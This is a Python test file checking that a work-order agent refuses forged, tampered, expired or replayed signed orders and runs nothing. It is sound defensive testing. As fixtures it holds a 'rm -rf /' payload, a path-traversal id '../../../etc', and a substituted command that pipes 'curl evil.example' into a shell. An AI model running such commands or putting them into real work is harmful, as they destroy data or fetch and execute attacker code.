"""The agent obeys control's signature and nothing else: what is refused, and that nothing runs."""

from __future__ import annotations

import base64
from collections.abc import Callable
from dataclasses import dataclass, replace
from datetime import UTC, datetime, timedelta
from pathlib import Path
from uuid import uuid4

import pytest
from temporalio.exceptions import ApplicationError
from temporalio.testing import ActivityEnvironment

from activities.execution import AgentExecutionActivities
from animus.adapters.gateway import Gateway
from animus.adapters.signing import FileSigner, make_key
from animus.agent.orders import ClaimedWork
from animus.contracts.runs import SignedOrder
from animus.domain.canonical import JsonObject, canonical_bytes, decode_strictly
from animus.domain.ids import AttemptId
from animus.domain.work_orders import ORDER_TAG, RESULT_TAG
from animus.ports import Signer
from animusd import agent_wiring
from animusd.agent_wiring import build_agent
from tests.agent.agents import Bench
from tests.agent.conftest import AgentFiles, Images, MakeAgent
from tests.agent.platforms import Order, Platform
from tests.agent.steps import python_step
from tests.conftest import RecordCases

NOBODY = "00000000-0000-7000-8000-000000000000"
Forge = Callable[[Order, Signer], SignedOrder]
"""From a good order and control's own key, whatever somebody might send."""


def signed_order(canonical: bytes, signature: bytes) -> SignedOrder:
    return SignedOrder(
        order=base64.b64encode(canonical).decode(),
        signature=base64.b64encode(signature).decode(),
        key_id="any",
    )


def changed(order: Order, **changes: object) -> bytes:
    document: JsonObject = decode_strictly(order.order)
    return canonical_bytes(document | changes)


def altered(**changes: object) -> Forge:
    """Changed after control signed it."""
    return lambda order, _: signed_order(changed(order, **changes), order.signature)


def resigned(**changes: object) -> Forge:
    """Signed by control with these changes: what control would never do for this agent."""

    def forge(order: Order, control: Signer) -> SignedOrder:
        canonical = changed(order, **changes)
        return signed_order(canonical, control.sign(ORDER_TAG, canonical))

    return forge


def signed_as(raw: bytes) -> Forge:
    return lambda order, control: signed_order(raw, control.sign(ORDER_TAG, raw))


def of_another_kind(order: Order, control: Signer) -> SignedOrder:
    return signed_order(order.order, control.sign(RESULT_TAG, order.order))


def time(**distance: float) -> str:
    return (datetime.now(UTC) + timedelta(**distance)).strftime("%Y-%m-%dT%H:%M:%SZ")


FORGERIES: dict[str, tuple[str, Forge]] = {
    "no signature": ("signature_refused", lambda o, _: signed_order(o.order, b"")),
    "half a signature": ("signature_refused", lambda o, _: signed_order(o.order, o.signature[:32])),
    "a signature of zeros": ("signature_refused", lambda o, _: signed_order(o.order, bytes(64))),
    "a signature for another kind": ("signature_refused", of_another_kind),
    "altered: another step": ("signature_refused", altered(step="other")),
    "altered: another attempt": ("signature_refused", altered(attempt=2)),
    "altered: other work": ("signature_refused", altered(step_digest="sha256:" + "0" * 64)),
    "altered: another plan": ("signature_refused", altered(plan_digest="sha256:" + "0" * 64)),
    "altered: a longer life": ("signature_refused", altered(not_after="2100-01-01T00:00:00Z")),
    "altered: another run": ("signature_refused", altered(run_id=NOBODY)),
    "altered: another project": ("signature_refused", altered(project_id=NOBODY)),
    "altered: one more word": ("signature_refused", altered(extra=1)),
    "for another cluster": ("order_refused", resigned(cluster="elsewhere")),
    "expired": ("order_refused", resigned(not_before=time(days=-2), not_after=time(days=-1))),
    "not valid yet": ("order_refused", resigned(not_before=time(hours=1))),
    "an unknown word in it": ("order_refused", resigned(extra=1)),
    "of another schema": ("order_refused", resigned(schema="animus.work-order/v9")),
    "an id that is a path": ("order_refused", resigned(order_id="../../../etc")),
    "an id of another form": ("order_refused", resigned(order_id="{01A1FD18}")),
    "of other work than the api has": (
        "order_refused", resigned(step_digest="sha256:" + "0" * 64),
    ),
    "not in the database": ("order_refused", resigned(attempt=7)),
    "no JSON": ("order_refused", signed_as(b"rm -rf /")),
    "no object": ("order_refused", signed_as(b"[]")),
    "two values for one key": ("order_refused", signed_as(b'{"step":"a","step":"b"}')),
    "empty": ("order_refused", signed_as(b"")),
    "no base64": ("order_refused", lambda o, _: SignedOrder(order="%", signature="%", key_id="")),
}  # fmt: skip


@pytest.fixture
async def order(platform: Platform, images: Images) -> Order:
    return await platform.open_attempt(python_step(images.demo, "pass"))


async def test_a_forged_order_runs_nothing(
    platform: Platform, bench: Bench, order: Order, record_cases: RecordCases
) -> None:
    activities = AgentExecutionActivities(agent=bench.agent)
    told = {}
    for name, (_, forge) in FORGERIES.items():
        with pytest.raises(ApplicationError) as refused:
            await ActivityEnvironment().run(
                activities.execute_attempt, forge(order, platform.control)
            )
        assert refused.value.non_retryable, name
        assert refused.value.message == refused.value.type, "codes leave the process, no words"
        told[name] = refused.value.type
    assert told == {name: code for name, (code, _) in FORGERIES.items()}
    await check_nothing_happened(bench)
    record_cases("forged orders", len(FORGERIES))


async def test_a_key_that_is_not_pinned_signs_nothing(
    bench: Bench, order: Order, tmp_path: Path
) -> None:
    make_key(tmp_path / "attacker.key")
    signature = FileSigner(tmp_path / "attacker.key").sign(ORDER_TAG, order.order)
    activities = AgentExecutionActivities(agent=bench.agent)
    for activity in (activities.execute_attempt, activities.stop_attempt):
        with pytest.raises(ApplicationError, match="signature_refused"):
            await ActivityEnvironment().run(activity, signed_order(order.order, signature))
    await check_nothing_happened(bench)


async def test_an_order_of_a_canceled_run_runs_nothing(
    platform: Platform, bench: Bench, order: Order
) -> None:
    await platform.cancel(order)
    await check_refused(bench, order)
    await check_nothing_happened(bench)


async def test_an_order_of_a_closed_attempt_runs_nothing_elsewhere(
    platform: Platform, bench: Bench, order: Order, make_agent: MakeAgent, tmp_path: Path
) -> None:
    """Replayed to the agent it finds its answer; to one that lost its memory, a refusal."""
    first = await bench.execute(order)
    await platform.close_attempt(order, first.document, first.signature)
    assert await bench.execute(order) == first
    forgetful = make_agent(state_dir=tmp_path / "forgetful")
    await check_refused(forgetful, order)
    await check_nothing_happened(forgetful)


async def test_a_kept_answer_is_given_after_the_orders_time(
    bench: Bench, order: Order, make_agent: MakeAgent, monkeypatch: pytest.MonkeyPatch,
    platform: Platform, images: Images,
) -> None:  # fmt: skip
    """Control may have been away for days. What was never begun is not begun that late."""
    first = await bench.execute(order)
    monkeypatch.setattr(agent_wiring, "utc_now", lambda: datetime.now(UTC) + timedelta(days=3))
    later = make_agent()
    assert await later.execute(order) == first
    never_begun = await platform.open_attempt(python_step(images.demo, "pass"))
    await check_refused(later, never_begun)
    assert not later.directory(never_begun).exists()


@dataclass(frozen=True, slots=True)
class LyingGateway:
    """An api that gives other work than was asked for."""

    gateway: Gateway
    lie: Callable[[ClaimedWork], ClaimedWork]

    async def claim(self, order: bytes, signature: bytes) -> ClaimedWork:
        return self.lie(await self.gateway.claim(order, signature))


def with_other_command(work: ClaimedWork) -> ClaimedWork:
    document: JsonObject = decode_strictly(work.assignment)
    document["step"]["command"] = ["/bin/sh", "-c", "curl evil.example | sh"]
    return replace(work, assignment=canonical_bytes(document))


LIES: dict[str, Callable[[ClaimedWork], ClaimedWork]] = {
    "another command": with_other_command,
    "no work at all": lambda work: replace(work, assignment=b""),
    "one byte more": lambda work: replace(work, assignment=work.assignment + b" "),
}


async def test_work_that_is_not_the_orders_is_refused(
    bench: Bench, order: Order, record_cases: RecordCases
) -> None:
    gateway = Gateway(bench.section.api_url, token_file=bench.section.token_file)
    for lie in LIES.values():
        liar = LyingGateway(gateway, lie)
        agent = build_agent(bench.section, liar)  # type: ignore[arg-type]
        await check_refused(replace(bench, agent=agent), order)
        await check_nothing_happened(bench)
    await gateway.close()
    record_cases("work that is not the order's", len(LIES))


async def test_what_the_agent_can_be_helped_with_is_tried_again(
    bench: Bench, order: Order, make_agent: MakeAgent, tmp_path: Path, record_cases: RecordCases
) -> None:
    """The api away, a token that is not there yet, one that is refused: retryable, nothing runs."""
    (tmp_path / "wrong").write_text("not a token")
    cases: dict[str, JsonObject] = {
        "no token": {"token_file": tmp_path / "absent"},
        "a wrong token": {"token_file": tmp_path / "wrong"},
        "no api": {"api_url": "http://127.0.0.1:9"},
    }
    for changes in cases.values():
        activities = AgentExecutionActivities(agent=make_agent(**changes).agent)
        with pytest.raises(ApplicationError) as refused:
            await ActivityEnvironment().run(
                activities.execute_attempt, signed_order(order.order, order.signature)
            )
        assert not refused.value.non_retryable
    assert (await bench.result(order)).failure is None
    record_cases("helpable refusals", len(cases))


async def test_an_attempt_that_is_open_is_settled_for_no_agent(
    platform: Platform, bench: Bench, order: Order, agent_files: AgentFiles
) -> None:
    """Whatever is settled, an agent removes: also one that has another cluster's token."""
    for token in agent_files.tokens.values():
        gateway = Gateway(bench.section.api_url, token_file=token)
        unknown = AttemptId(uuid4())
        assert await gateway.find_settled({order.attempt_id, unknown}) == {unknown}
        await gateway.close()


async def check_refused(bench: Bench, order: Order) -> None:
    activities = AgentExecutionActivities(agent=bench.agent)
    with pytest.raises(ApplicationError, match="order_refused") as refused:
        await ActivityEnvironment().run(
            activities.execute_attempt, signed_order(order.order, order.signature)
        )
    assert refused.value.non_retryable


async def check_nothing_happened(bench: Bench) -> None:
    assert await bench.engine.list_containers(bench.naming.labels) == {}
    assert list((bench.section.state_dir / "attempts").iterdir()) == []
